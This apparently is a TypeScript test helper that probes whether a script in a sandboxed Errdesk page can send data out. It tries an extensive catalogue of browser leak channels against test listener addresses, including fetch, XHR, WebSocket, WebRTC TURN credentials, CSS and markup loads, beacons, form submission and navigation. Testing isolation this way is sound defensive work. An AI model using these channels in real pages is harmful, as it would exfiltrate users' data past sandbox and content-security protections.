import type { Targets } from './listeners';

// What a script in one of Errdesk's pages could try, to send something out. Each function runs there.

/** Calls of scripts that ask a network, in a window and in a worker. Answers what was not refused. */
export async function askByScript({ addresses, tcp, udp }: Targets): Promise<string[]> {
  type Kind = new (...given: unknown[]) => EventTarget & Record<string, Promise<unknown>>;
  const scope = globalThis as unknown as Record<string, Kind> & {
    importScripts?: (url: string) => void;
    fetchLater?: (url: string) => void;
  };
  const absent = () => Promise.reject(new Error('absent'));
  const made = (name: string, url: string) => {
    const Made = scope[name];
    if (!Made) throw new Error('absent');
    return new Made(url);
  };
  const settled = (of: EventTarget, good: string) =>
    new Promise((resolve, reject) => {
      of.addEventListener(good, resolve);
      for (const bad of ['error', 'close']) of.addEventListener(bad, reject);
    });
  const calls: Record<string, (at: string) => unknown> = {
    fetch: (at) => fetch(`http://${at}?secret`),
    'fetch without an answer': (at) => fetch(`http://${at}`, { mode: 'no-cors', keepalive: true }),
    'fetch by UDP': (at) => fetch(`https://${at.replace(`${tcp}`, `${udp}`)}`, { mode: 'no-cors' }),
    fetchLater: (at) => (scope.fetchLater ? scope.fetchLater(`http://${at}`) : absent()),
    XMLHttpRequest: (at) => {
      const request = new XMLHttpRequest();
      request.open('POST', `http://${at}`);
      request.send('secret');
      return settled(request, 'load');
    },
    EventSource: (at) => settled(made('EventSource', `http://${at}`), 'open'),
    WebSocket: (at) => settled(new WebSocket(`ws://${at}`), 'open'),
    WebSocketStream: (at) => made('WebSocketStream', `ws://${at}`)['opened'],
    WebTransport: (at) => made('WebTransport', `https://${at}`)['ready'],
    import: (at) => import(/* @vite-ignore */ `http://${at}x.js`),
    importScripts: (at) => (scope.importScripts ? scope.importScripts(`http://${at}x.js`) : absent()),
    Worker: (at) => settled(new Worker(`http://${at}x.js`), 'message'),
    SharedWorker: (at) => settled(made('SharedWorker', `http://${at}x.js`), 'message'),
    'a worker of its own': (at) => {
      const code = [`fetch('http://${at}').then(() => postMessage(1))`];
      return settled(new Worker(URL.createObjectURL(new Blob(code, { type: 'text/javascript' }))), 'message');
    },
    'a cache': async (at) => (await caches.open('x')).add(`http://${at}`),
    'a service worker': (at) => navigator.serviceWorker.register(`http://${at}x.js`),
    'a font': (at) => new FontFace('x', `url(http://${at}x.woff2)`).load(),
  };
  const through = await Promise.all(
    addresses.flatMap((address) =>
      Object.entries(calls).map(async ([name, call]) => {
        // What neither fails nor ends, as a request that is made later, is heard or it is not.
        const late = new Promise((_, reject) => setTimeout(reject, 3000));
        return Promise.race([(async () => call(`${address}:${tcp}/`))(), late]).then(
          () => [name],
          () => [],
        );
      }),
    ),
  );
  return through.flat();
}

/** Connections between peers: what the servers of their own choosing are told, and the peer itself. */
export async function askPeers({
  addresses,
  tcp,
  udp,
  of,
}: Targets & { of: 'page' | 'frame' }): Promise<string[]> {
  const frame = document.createElement('iframe');
  if (of === 'frame') document.body.append(frame);
  const { RTCPeerConnection: Peer } = (frame.contentWindow ?? window) as unknown as typeof globalThis;
  const account = { username: 'the secret itself', credential: 'x' };
  const iceServers = [...addresses, 'secret.invalid'].flatMap((address) => [
    { urls: `stun:${address}:${udp}` },
    { urls: `turn:${address}:${udp}?transport=udp`, ...account },
    { urls: `turn:${address}:${tcp}?transport=tcp`, ...account },
    { urls: `turns:${address}:${tcp}?transport=tcp`, ...account },
  ]);
  const found: string[] = [];
  const peer = () => {
    const made = new Peer({ iceServers, iceCandidatePoolSize: 1 });
    made.addEventListener('icecandidate', ({ candidate }) => candidate && found.push(candidate.candidate));
    return made;
  };
  const [one, other] = [peer(), peer()];
  one.createDataChannel('x');
  await one.setLocalDescription();
  await other.setRemoteDescription(one.localDescription as RTCSessionDescription);
  await other.setLocalDescription();
  await one.setRemoteDescription(other.localDescription as RTCSessionDescription);
  const hosts = [...addresses.map((address) => address.replace(/[[\]]/g, '')), '7d2c1f9e-secret.local'];
  for (const host of hosts)
    for (const [protocol, port, more] of [
      ['udp', udp, ''],
      ['tcp', tcp, ' tcptype passive'],
    ])
      await one.addIceCandidate({
        candidate: `candidate:1 1 ${protocol} 2122260223 ${host} ${port} typ host${more}`,
        sdpMid: '0',
        sdpMLineIndex: 0,
      });
  const gathered = (of_: RTCPeerConnection) =>
    new Promise<void>((resolve) => {
      const look = () => of_.iceGatheringState === 'complete' && resolve();
      of_.addEventListener('icegatheringstatechange', look);
      look();
      // A server that never answers is waited for much longer, after everything was sent.
      setTimeout(resolve, 3000);
    });
  await Promise.all([gathered(one), gathered(other)]);
  one.close();
  other.close();
  frame.remove();
  return found;
}

/** Everything that is loaded because it stands in a page. Waits for what tells of its end. */
export async function askByElements({ addresses, tcp }: Targets): Promise<void> {
  const hints = [
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'preload',
    'modulepreload',
    'prerender',
    'manifest',
    'icon',
    'stylesheet',
    'compression-dictionary',
  ];
  const of = (url: string) => `
    ${hints.map((hint) => `<link rel="${hint}" as="script" href="${url}${hint}">`).join('')}
    <link rel="dns-prefetch" href="//secret.invalid"><link rel="preconnect" href="https://secret.invalid">
    <img src="${url}img"><img srcset="${url}srcset 2x"><picture><source srcset="${url}source"><img></picture>
    <input type="image" src="${url}input"><video src="${url}video" poster="${url}poster" autoplay></video>
    <audio src="${url}audio" autoplay></audio><video><source src="${url}clip"><track default src="${url}track"></video>
    <object data="${url}object"></object><embed src="${url}embed"><iframe src="${url}iframe"></iframe>
    <iframe srcdoc="<img src='${url}srcdoc'><meta http-equiv=refresh content='0;url=${url}'>"></iframe>
    <iframe src="data:text/html,<img src='${url}data'>"></iframe><fencedframe src="${url}fenced"></fencedframe>
    <frameset><frame src="${url}frame"></frameset><portal src="${url}portal"></portal>
    <svg><image href="${url}image"/><use href="${url}use#x"/><filter id="x"><feImage href="${url}fe"/></filter>
      <rect filter="url(${url}filter#x)" mask="url(${url}mask#x)" width="9" height="9"/></svg>
    <style>@import url(${url}import); @font-face { font-family: leak; src: url(${url}font) }
      .leak { font-family: leak; background: url(${url}css); cursor: url(${url}cursor), auto;
        list-style-image: url(${url}list); mask: url(${url}mask); content: image-set('${url}set' 1x) }</style>
    <p class="leak" style="background: url(${url}style)">x</p>
    <meta http-equiv="refresh" content="0;url=${url}meta"><base href="${url}">
    <meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${url}report">
    <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}rules"]}],"prerender":[{"source":"list","urls":["${url}rules"]}]}</script>
    <script type="webbundle">{"source":"${url}bundle","resources":["${url}bundled"]}</script>
    <script type="importmap">{"imports":{"x":"${url}map"}}</script><script src="${url}script"></script>
    <a ping="${url}ping" href="${url}a">x</a><a href="${url}download" download>x</a>
    <a target="_blank" href="${url}blank">x</a><form action="${url}form" method="post"><input name="x" value="secret"></form>`;
  const place = document.createElement('div');
  document.body.append(place);
  for (const address of addresses) {
    const template = document.createElement('template');
    template.innerHTML = of(`http://${address}:${tcp}/`);
    // A script that came with other markup does not run.
    for (const script of template.content.querySelectorAll('script')) {
      const own = document.createElement('script');
      for (const { name, value } of script.attributes) own.setAttribute(name, value);
      own.textContent = script.textContent;
      script.replaceWith(own);
    }
    place.append(template.content);
  }
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(`p { background: url(http://${addresses[0]}:${tcp}/sheet) }`);
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  for (const link of place.querySelectorAll('a')) link.click();
  for (const form of place.querySelectorAll('form')) form.submit();
  for (const address of addresses) navigator.sendBeacon(`http://${address}:${tcp}/beacon`, 'secret');
  await new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(painted)));
  place.remove();
  document.adoptedStyleSheets = [];
}

/** Leaving the page. */
export function leave({ addresses, tcp }: Targets): void {
  for (const address of addresses) {
    const url = `http://${address}:${tcp}/`;
    window.open(url);
    window.open(url, '_self');
    location.assign(url);
    location.href = `${url}href`;
    location.replace(`view-source:${url}`);
    (window as unknown as { navigation: { navigate(to: string): void } }).navigation.navigate(url);
  }
}
